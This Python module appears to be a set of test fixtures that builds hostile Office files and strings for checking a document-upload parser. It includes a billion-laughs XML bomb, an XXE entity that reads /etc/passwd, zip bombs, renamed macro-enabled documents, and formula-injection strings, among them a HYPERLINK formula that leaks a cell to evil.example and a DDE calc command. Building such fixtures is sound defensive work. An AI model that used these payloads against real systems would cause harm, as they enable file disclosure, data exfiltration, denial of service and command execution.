"""Hostile files and strings, built in memory: each one small enough to write, dangerous to read naively."""
from __future__ import annotations

import io
import zipfile

import docx
import openpyxl

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
TYPES_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
DOCX_TYPES = (f'<?xml version="1.0"?><Types xmlns="{TYPES_NS}">'
              '<Default Extension="xml" ContentType="application/xml"/>'
              f'<Override PartName="/word/document.xml" ContentType="{DOCX_MAIN}"/></Types>')
XLSX_TYPES = (f'<?xml version="1.0"?><Types xmlns="{TYPES_NS}">'
              '<Default Extension="xml" ContentType="application/xml"/></Types>')
BILLION_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
    f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10)) + ']>')
XXE = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def zipped(entries: dict[str, bytes | str]) -> bytes:
    """A deflated zip of the given members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in entries.items():
            archive.writestr(name, body)
    return out.getvalue()


def docx_with_body(body_xml: str, prolog: str = "") -> bytes:
    """A minimal .docx whose document.xml holds `body_xml` after an optional DOCTYPE prolog."""
    xml = (f'<?xml version="1.0"?>{prolog}<w:document xmlns:w="{W_NS}">'
           f'<w:body>{body_xml}</w:body></w:document>')
    return zipped({"[Content_Types].xml": DOCX_TYPES, "word/document.xml": xml})


def plain_docx(text: str = "第一条 为了规范民宿经营，制定本条例。") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def macro_docx() -> bytes:
    """A macro-enabled document (.docm content type, vbaProject.bin) renamed .docx."""
    source = zipfile.ZipFile(io.BytesIO(plain_docx()))
    entries = {name: source.read(name) for name in source.namelist()}
    entries["[Content_Types].xml"] = entries["[Content_Types].xml"].replace(
        DOCX_MAIN.encode(), b"application/vnd.ms-word.document.macroEnabled.main+xml")
    entries["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512
    return zipped(entries)


def xlsx_with_sheet(sheet_xml: str, prolog: str = "") -> bytes:
    """A minimal .xlsx-shaped zip whose first sheet is `sheet_xml` (after an optional DOCTYPE prolog)."""
    workbook = ('<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                '<sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>')
    rels = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Target="worksheets/sheet1.xml" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/worksheet"/></Relationships>')
    sheet = (f'<?xml version="1.0"?>{prolog}<worksheet '
             f'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{sheet_xml}'
             '</sheetData></worksheet>')
    return zipped({"[Content_Types].xml": XLSX_TYPES, "xl/workbook.xml": workbook,
                   "xl/_rels/workbook.xml.rels": rels, "xl/worksheets/sheet1.xml": sheet})


def inline_row(n: int, *values: str) -> str:
    cells = "".join(f'<c r="{chr(65 + i)}{n}" t="inlineStr"><is><t>{v}</t></is></c>'
                    for i, v in enumerate(values))
    return f'<row r="{n}">{cells}</row>'


def blank_row_bomb(rows: int = 400_000) -> bytes:
    """Few real rows and hundreds of thousands of empty ones (issue 9 #8): tiny zip, huge sheet XML."""
    body = inline_row(1, "条款", "意见") + inline_row(2, "1", "意见") + "".join(
        f'<row r="{n}"/>' for n in range(3, rows))
    return xlsx_with_sheet(body)


def macro_xlsx() -> bytes:
    """A workbook carrying a VBA project (an .xlsm renamed .xlsx)."""
    workbook = openpyxl.Workbook()
    workbook.active.append(["条款", "意见"])
    workbook.active.append(["1", "意见"])
    out = io.BytesIO()
    workbook.save(out)
    source = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    entries = {name: source.read(name) for name in source.namelist()}
    entries["[Content_Types].xml"] = entries["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    entries["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512
    return zipped(entries)


def zip_bomb(member: str, size: int = 60 * 1024 * 1024, types: str = DOCX_TYPES) -> bytes:
    """A small zip declaring `size` bytes of zeros in `member`."""
    return zipped({"[Content_Types].xml": types, member: b"\0" * size})


BINARY = bytes(range(256)) * 40
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4
CONTROL = "".join(chr(c) for c in range(1, 32) if chr(c) not in "\t\n\r")
INVISIBLE = "\u202e\u2066\u200b\u200d\ufeff"
FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)",
            "=cmd|' /C calc'!A0", "\t=1+1")
